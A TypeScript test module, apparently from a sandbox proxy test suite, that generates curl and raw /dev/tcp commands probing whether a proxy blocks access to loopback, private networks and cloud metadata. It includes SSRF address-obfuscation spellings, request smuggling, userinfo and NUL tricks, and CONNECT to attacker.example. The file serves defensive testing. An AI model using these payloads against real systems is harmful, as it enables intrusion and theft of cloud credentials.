import { tagOf } from '../attack.ts'
import { command, stepFamily } from './steps.ts'

/** Names under which the user's loopback, other machines nearby or a cloud's metadata might be reached. */
const spellings = [
  ['a number', '127.0.0.1'],
  ['the name localhost', 'localhost'],
  ['a trailing dot', 'localhost.'],
  ['capitals', 'LOCALHOST'],
  ['a subdomain of localhost', 'x.localhost'],
  ['a short number', '127.1'],
  ['a decimal number', '2130706433'],
  ['an octal number', '0177.0.0.1'],
  ['a hexadecimal number', '0x7f000001'],
  ['another loopback number', '127.8.8.8'],
  ['zero', '0.0.0.0'],
  ['plain zero', '0'],
  ['IPv6', '[::1]'],
  ['IPv6 zero', '[::]'],
  ['IPv4 mapped into IPv6', '[::ffff:127.0.0.1]'],
  ['IPv4 mapped in hexadecimal', '[::ffff:7f00:1]'],
  ['IPv4 compatible IPv6', '[::127.0.0.1]'],
  ['NAT64', '[64:ff9b::7f00:1]'],
  ['6to4', '[2002:7f00:1::]'],
  ['a zone', '[::1%25lo]'],
  ['full width digits', '１２７.0.0.1'],
  ['a private network', '10.0.0.1'],
  ['another private network', '192.168.0.1'],
  ['a carrier network', '100.64.0.1'],
  ['link local', '169.254.1.1'],
  ['metadata', '169.254.169.254'],
  ['metadata by name', 'metadata.google.internal'],
  ['unique local IPv6', '[fd00::1]'],
  ['link local IPv6', '[fe80::1]'],
  ['multicast', '224.0.0.1'],
  ['broadcast', '255.255.255.255'],
  ['a host that nobody allowed', 'attacker.example.com'],
] as const

const refused =
  /\b(403|400|421|502|503)\b|refused|Could not resolve|Failed|not allowed|Unsupported|bad|Invalid|URL|malformed/i

export const proxy = stepFamily({
  name: 'the proxy',
  attacks: [
    ...spellings.flatMap(([what, host]) => {
      const plain = `reach the user over HTTP by ${what}`
      const tunnel = `reach the user through a tunnel by ${what}`
      return [
        command(
          plain,
          'proxy',
          refused,
          ({ sinks }) =>
            `curl -sS -m 5 -o - -w '%{http_code}' --noproxy '' 'http://${host}:${sinks.port}/?tag=${tagOf(plain)}' 2>&1`,
        ),
        command(
          tunnel,
          'proxy',
          refused,
          ({ sinks }) =>
            `curl -sS -m 5 -o - -w '%{http_connect}' --noproxy '' -p 'http://${host}:${sinks.port}/?tag=${tagOf(tunnel)}' 2>&1`,
        ),
      ]
    }),
    ...raw(
      'a host header of another',
      (port, query) => `GET http://allowed.example:${port}/${query} HTTP/1.1\\r\\nHost: 127.0.0.1:${port}\\r\\n\\r\\n`,
    ),
    ...raw(
      'userinfo',
      (port, query) => `CONNECT allowed.example@127.0.0.1:${port} HTTP/1.1\\r\\nX: ${query}\\r\\n\\r\\n`,
    ),
    ...raw('a NUL', (port, query) => `CONNECT 127.0.0.1\\x00.example:${port} HTTP/1.1\\r\\nX: ${query}\\r\\n\\r\\n`),
    ...raw(
      'two requests in one',
      (port, query) =>
        `GET http://attacker.example/ HTTP/1.1\\r\\nHost: attacker.example\\r\\nContent-Length: 0\\r\\n\\r\\nGET http://127.0.0.1:${port}/${query} HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n`,
    ),
    ...raw(
      'another scheme',
      (port, query) => `GET ftp://127.0.0.1:${port}/${query} HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n`,
    ),
    ...raw('a mail port', (_, query) => `CONNECT attacker.example:25 HTTP/1.1\\r\\nX: ${query}\\r\\n\\r\\n`),
  ],
})

/** Bytes that no well-behaved client would send to the proxy. */
function raw(what: string, bytes: (port: number, query: string) => string) {
  const name = `confuse the proxy with ${what}`
  return [
    command(name, 'proxy', /HTTP\/1\.1 (4\d\d|5\d\d)|refused|closed/i, ({ sinks }) => {
      const text = bytes(sinks.port, `?tag=${tagOf(name)}`)
      return `at=\${http_proxy#*://}; at=\${at%/}; at=\${at#*@}; exec 5<>/dev/tcp/\${at%:*}/\${at##*:} && printf '${text.replaceAll('%', '%%')}' >&5 && timeout 3 cat <&5; echo closed`
    }),
  ]
}
